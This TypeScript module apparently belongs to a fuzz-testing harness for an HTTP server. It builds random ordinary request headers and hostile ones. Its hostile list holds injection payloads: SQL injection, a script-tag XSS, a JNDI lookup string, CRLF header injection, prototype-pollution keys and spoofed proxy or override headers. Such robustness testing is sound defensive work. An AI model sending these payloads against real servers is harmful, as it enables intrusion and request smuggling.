// Well-formed headers, those that clients send and those that only attackers send.

import type { Random } from '../../lab/random.js';
import { INJECTED } from './judge.js';
import { MARKS_OF_A_PROXY } from './marks-of-a-proxy.js';
import { type Field, utf8 } from './write-request.js';

const hex = (random: Random, length: number) =>
  Array.from({ length }, () => random.integer(0, 15).toString(16)).join('');

const values: Readonly<Record<string, readonly string[]>> = {
  'Accept-Encoding': [
    'gzip',
    'br',
    'br, gzip',
    'identity',
    '*',
    'gzip;q=0, br;q=0.1',
    'identity;q=0',
    'deflate',
    '',
  ],
  'If-None-Match': ['*', '"nope"', 'W/"nope"', '"a", "b", W/"c"', '"unfinished', ''],
  'If-Modified-Since': [
    'Sat, 01 Jan 2000 00:00:00 GMT',
    'Fri, 01 Jan 2100 00:00:00 GMT',
    'yesterday',
    '0',
    '-1',
    '999999999999999',
  ],
  Accept: [
    ...[
      '*/*',
      'application/json',
      'text/html',
      'image/png',
      'application/json;q=0',
      'text/csv',
      'text/csv;q=0',
    ],
    ...[
      'application/geo+json',
      'application/x-ndjson;q=0.9, */*;q=0.1',
      'text/csv;q=2, application/*',
      ';;q=,',
    ],
  ],
  'Accept-Language': ['es-CO', 'de;q=0.1', '*'],
  'Cache-Control': ['no-cache', 'max-age=0', 'only-if-cached'],
  Range: ['bytes=0-10', 'bytes=-1', 'bytes=5-1', 'rows=1-2'],
  'If-Range': ['"nope"', 'Sat, 01 Jan 2000 00:00:00 GMT'],
  Origin: ['https://example.org', 'null', 'http://localhost:1'],
  'Access-Control-Request-Method': ['GET', 'DELETE'],
  'Access-Control-Request-Headers': ['authorization, x-custom'],
  Cookie: ['session=1', 'a=b; c=d'],
  Authorization: ['Bearer x', 'Basic Og=='],
  'X-Request-Id': ['1', 'a-b_c.d', '0b6f3f4e-8f0e-4c6e-9a53-0d6f0f6f8a11'],
  'X-Forwarded-For': ['203.0.113.7', '198.51.100.1, 10.0.0.1', '2001:db8::1'],
  Forwarded: ['for=203.0.113.9;proto=https'],
};

const hostileValues = [
  '__proto__',
  "' OR '1'='1",
  '<script>alert(1)</script>',
  '$\u007bjndi:ldap://x.example/a}',
  `%0d%0a${INJECTED}: 1`,
  `\\r\\n${INJECTED}: 1`,
  utf8('ñandú 🇨🇴'),
  '\x80\xff\xfe',
  '\t tabbed \t',
  ',,,,;;;;====',
  '"'.repeat(50),
  '-'.repeat(300),
  'x'.repeat(4000),
  '999999999999999999999999',
  '127.0.0.1',
  '::1',
  'unknown, _hidden, 0.0.0.0/0',
  '00-00000000000000000000000000000000-0000000000000000-00',
  '00-ZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZZ-zzzzzzzzzzzzzzzz-zz',
  'ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
  '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01-more',
];

const hostileNames = [
  ...Object.keys(values),
  'traceparent',
  'tracestate',
  ...MARKS_OF_A_PROXY,
  'X-Forwarded-Prefix',
  'X-Original-Url',
  'X-Rewrite-Url',
  'X-Http-Method-Override',
  'Content-Type',
  'Content-Encoding',
  'Accept-Version',
  'Referer',
  'User-Agent',
  'TE',
  'Trailer',
  'Max-Forwards',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'Expect',
];

export function ordinaryFields(random: Random): Field[] {
  const fields: Field[] = [];
  if (random.chance(0.25)) fields.push(ordinaryField(random, 'Accept-Encoding'));
  if (random.chance(0.15)) fields.push(ordinaryField(random, 'If-None-Match'));
  if (random.chance(0.1)) fields.push(ordinaryField(random, 'If-Modified-Since'));
  if (random.chance(0.15)) fields.push(['traceparent', `00-${hex(random, 32)}-${hex(random, 16)}-01`]);
  if (random.chance(0.3)) fields.push(ordinaryField(random, random.pick(Object.keys(values))));
  return fields;
}

function ordinaryField(random: Random, name: string): Field {
  return [name, random.pick(values[name] as readonly string[])];
}

export function hostileFields(random: Random): Field[] {
  const fields = Array.from({ length: random.integer(1, 4) }, (): Field => {
    return [random.pick(hostileNames), random.pick(hostileValues)];
  });
  // Together they stay well below the limit of a server. Larger ones need a separate connection.
  let room = 8000;
  return fields.filter(([name, value]) => {
    room -= name.length + value.length;
    return room > 0;
  });
}
